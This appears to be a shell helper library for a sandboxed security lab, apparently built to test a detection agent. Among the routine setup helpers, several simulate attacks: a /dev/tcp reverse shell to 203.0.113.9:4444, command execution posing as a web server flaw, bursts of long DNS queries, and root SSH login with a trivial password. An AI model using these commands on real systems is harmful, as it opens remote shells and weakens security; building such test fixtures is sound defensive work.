# Functions for scripts in a sandbox, whose programs are in /opt/lab.

# Makes programs at these paths that do nothing.
stubs() {
	for path; do mkdir -p "${path%/*}"; cp --remove-destination /bin/true "$path"; chmod 755 "$path"; done
}

# Makes shells at these paths.
shells() {
	for path; do mkdir -p "${path%/*}"; cp --remove-destination /bin/dash "$path"; chmod 755 "$path"; done
}

# Listens on a port of every address.
listener() {
	python3 -c 'import socket, sys, time
s = socket.create_server(("", int(sys.argv[1]))); kept = []
while True: kept.append(s.accept())' "$1" &
	until ss -ltn | grep -q ":$1 "; do sleep 0.05; done
}

# Serves the programs of /opt/lab at http://10.9.8.7:8000/.
web() {
	(cd /opt/lab && exec python3 -m http.server -b 10.9.8.7 8000 > /dev/null 2>&1) &
	until ss -ltn | grep -q ':8000 '; do sleep 0.05; done
}

# Runs a command in a shell that a web server starts, as through a vulnerability of the server.
server() {
	/usr/sbin/httpd -c 'sh -c "$0; :"; :' "$1"
}

# Runs a command in a shell whose input and output are a connection.
remote() {
	bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; sh -c "$0; :" <&3 >&3 2>&3; :' "$1"
}

# Starts a container engine. Its containers are in the sandbox's cgroup, or in the one that is given.
engine() {
	# On a slow machine containerd may start later than its engine waits; the next engine finds it.
	for try in 1 2 3; do
		dockerd --data-root /opt/lab/docker --exec-root /run/docker --pidfile /run/docker.pid -H unix:///run/docker.sock --bridge none --iptables=false --ip-forward=false \
			--exec-opt native.cgroupdriver=cgroupfs --cgroup-parent "${1-/$LAB}" && break
	done > /var/log/docker.log 2>&1 &
	until docker version > /dev/null 2>&1; do
		kill -0 $! || { tail /var/log/docker.log >&2; exit 1; }
		sleep 0.2
	done
}

# Imports the image debian:12 for an engine that starts later.
image() {
	engine
	docker image inspect debian:12 > /dev/null 2>&1 || docker import /opt/engine/base.tar debian:12
	kill "$(cat /run/docker.pid)"
	wait
}

# Starts a name server that answers every query with NXDOMAIN.
refuse_names() {
	python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("10.9.8.1", 53))
while True:
  query, peer = s.recvfrom(512); s.sendto(query[:2] + bytes([0x81, 0x83]) + query[4:], peer)' &
	until ss -lun | grep -q ':53 '; do sleep 0.05; done
}

# ask_names COUNT: asks the name server for different names, and waits for each answer.
ask_names() {
	python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("10.9.8.1", 53)); s.settimeout(2)
for n in range(int(sys.argv[1])):
  s.send(bytes.fromhex("000101000001000000000000") + b"\x08" + b"%08d" % n + b"\x07example\0\0\1\0\1"); s.recv(512)' "$1"
}

# ask_dns TYPE COUNT LENGTH: sends queries for different names of this length.
ask_dns() {
	python3 -c '
import socket, sys
kind, count, length = {"A": 1, "TXT": 16}[sys.argv[1]], int(sys.argv[2]), int(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(count):
  name = b"".join(bytes([len(part)]) + part for part in (b"%0*d" % (length, n), b"x" * 20, b"example"))
  s.sendto(bytes.fromhex("000101000001000000000000") + name + bytes([0, 0, kind, 0, 1]), ("10.9.8.1", 53))' "$@"
}

# /dev is shared with the host, so the sandbox gets another one, in which no device of the machine is.
private_dev() {
	mkdir /tmp/dev; mount -t tmpfs -o mode=755 dev /tmp/dev
	cp -a /dev/null /dev/zero /dev/full /dev/random /dev/urandom /dev/tty /dev/ptmx /dev/fd /dev/stdin /dev/stdout /dev/stderr /tmp/dev
	mkdir /tmp/dev/pts /tmp/dev/shm; mount --bind /dev/pts /tmp/dev/pts; mount -t tmpfs -o mode=1777 shm /tmp/dev/shm; mount --move /tmp/dev /dev
	rmdir /tmp/dev
}

# Starts rsyslogd, which writes to /var/log, where the lab reads. It needs a /dev with a socket for logs.
start_log() {
	private_dev
	mount --bind "/opt/lab/$LAB/var/log" /var/log
	mkdir -p /var/spool/rsyslog
	printf '%s\n' 'module(load="imuxsock")' 'auth,authpriv.* /var/log/auth.log' '*.*;auth,authpriv.none /var/log/syslog' > /etc/rsyslog.conf
	rsyslogd -i /run/rsyslogd.pid
	until [ -S /dev/log ] && [ -s /run/rsyslogd.pid ]; do sleep 0.05; done
}

# Stops rsyslogd once it has written all lines.
end_log() {
	kill "$(cat /run/rsyslogd.pid)"
	while [ -e /run/rsyslogd.pid ]; do sleep 0.05; done
}

# Prepares an SSH server (/usr/sbin/sshd -f /srv/sshd) on which ann and root have the password `right`.
prepare_sshd() {
	grep -q ^sshd: /etc/passwd || echo 'sshd:x:105:65534::/run/sshd:/usr/sbin/nologin' >> /etc/passwd
	printf '#!/bin/sh\necho "$WORD"\n' > /opt/word; chmod 755 /opt/word
	echo '127.0.1.1 lab' >> /etc/hosts; pwconv; printf 'ann:right\nroot:right\n' | chpasswd
	mkdir -p /run/sshd /etc/ssh; ssh-keygen -A
	printf '%s\n' 'UsePAM yes' 'PermitRootLogin yes' 'MaxStartups 100' > /srv/sshd
}

# login PASSWORD USER [PROMPTS]: logs in from the address 203.0.113.9.
login() {
	WORD=$1 SSH_ASKPASS=/opt/word SSH_ASKPASS_REQUIRE=force ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR -o NumberOfPasswordPrompts=${3-1} "$2@203.0.113.9" true
}

# In a guest: waits until the agent has checked the integrity of kernel and host, and reported its findings.
checked() {
	# The first check may have begun before the script's last change; the third one begins after the second is reported.
	for n in 1 2 3; do
		touch /tmp/now
		until [ "$CHECK" -nt /tmp/now ]; do sleep 0.2; done
	done
}

# Starts the outside, which answers on every address; see outside.py.
outside() {
	ip route replace local 0.0.0.0/0 dev lo
	rm -f /etc/resolv.conf; echo 'nameserver 10.9.8.1' > /etc/resolv.conf
	/usr/bin/python3 /opt/lab/outside.py /opt/lab/true /opt/lab/outside.pem /run/outside > /dev/null 2>&1 &
	until [ -e /run/outside ]; do kill -0 $! || exit 1; sleep 0.05; done
	rm /run/outside
}

# Makes what the sandbox shares with the machine read-only, other than its cgroup.
shut() {
	for shared in /proc/sys /proc/sysrq-trigger /proc/irq /proc/bus; do
		[ ! -e $shared ] || { mount --bind $shared $shared; mount -o remount,bind,ro $shared; }
	done
	for shared in $(awk '$5 ~ "^/sys" && $5 !~ "/cgroup" { print $5 }' /proc/self/mountinfo); do mount -o remount,bind,ro "$shared"; done
}

# limited PID: bounds the processes and the memory of a process and its children, where the host counts them.
limited() {
	for limit in pids/pids.max=400 memory/memory.limit_in_bytes=1073741824; do
		group=/sys/fs/cgroup/${limit%%/*}/$LAB file=${limit#*/}
		mkdir "$group" 2> /dev/null || continue
		echo "${limit#*=}" > "$group/${file%=*}"
		echo "$1" > "$group/cgroup.procs"
	done
}

# confined USER SCRIPT: runs a script in the cgroup as this user, and waits until it and the logs have ended.
confined() {
	home=/root id=0
	[ "$1" = root ] || home=/home/$1 id=1000
	shut; cd $home
	# The shell stops before its first program, which then begins in the cgroup.
	HOME=$home USER=$1 LOGNAME=$1 setpriv --bounding-set=-sys_module,-sys_rawio,-sys_time,-sys_boot,-mknod --reuid $id --regid $id --clear-groups \
		/bin/sh -c 'kill -STOP $$; exec /bin/sh -c "$0"' "$2" &
	until grep -q '^State:.T' /proc/$!/status; do sleep 0.02; done
	limited $!
	echo $! > "$cgroup/cgroup.procs"
	kill -CONT $!
	code=0; wait $! || code=$?
	# Programs in the background still do their work.
	sleep 0.5
	[ ! -s /run/rsyslogd.pid ] || end_log
	exit $code
}
